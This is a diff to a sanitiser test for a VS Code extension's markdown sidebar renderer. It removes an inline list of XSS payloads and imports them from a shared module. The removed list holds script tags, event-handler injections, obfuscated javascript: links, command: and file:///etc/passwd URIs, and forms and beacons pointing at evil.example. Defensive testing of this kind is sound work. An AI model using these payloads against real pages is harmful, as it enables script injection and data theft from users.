@@ -1,6 +1,7 @@
 // @vitest-environment jsdom
 import { expect, test } from 'vitest';
 import { parseMarkdown } from '../../src/webview/sidebar/markdown';
+import { attacks } from './attacks';
 
 function render(markdown: string): HTMLElement {
   const page = document.createElement('div');
@@ -8,52 +9,7 @@ function render(markdown: string): HTMLElement {
   return page;
 }
 
-const attacks = [
-  '<script>alert(1)</script>',
-  'a <script src="https://evil.example/x.js"></script> b',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://evil.example/beacon.png">',
-  '![beacon](https://evil.example/beacon.png)',
-  '![x](x" onerror="alert(1))',
-  '![data](data:image/svg+xml;base64,PHN2Zy8+)',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="https://evil.example"></object><embed src="https://evil.example">',
-  '<style>body { display: none }</style>',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<p style="position:fixed;inset:0">over everything</p>',
-  '<form action=https://evil.example><input name=key><button>Send</button></form>',
-  '<div id="app" class="codicon" onclick="alert(1)" data-x="y">text</div>',
-  '<a href="javascript:alert(1)">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](command:workbench.action.terminal.new)',
-  '[x](command:turnout.eraseData "harmless")',
-  '[x](vscode://settings/x)',
-  '[x](vscode-resource://file/etc/passwd)',
-  '[x](file:///etc/passwd)',
-  '[x](data:text/html,<script>alert(1)</script>)',
-  '[x](//evil.example)',
-  '[x](relative/path)',
-  '<javascript:alert(1)>',
-  '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
-  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
-  '```js" onmouseover="alert(1)\ncode\n```',
-  '`<img src=x onerror=alert(1)>`',
-  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '<br onclick=alert(1)>',
-  '<!--><img src=x onerror=alert(1)>-->',
-];
-
-test.each(attacks)('%s comes to nothing', (attack) => {
+test.each(attacks('https://evil.example', 'alert(1)'))('%s comes to nothing', (attack) => {
   const page = render(attack);
   const elements = [...page.querySelectorAll('*')];
   const allowed =
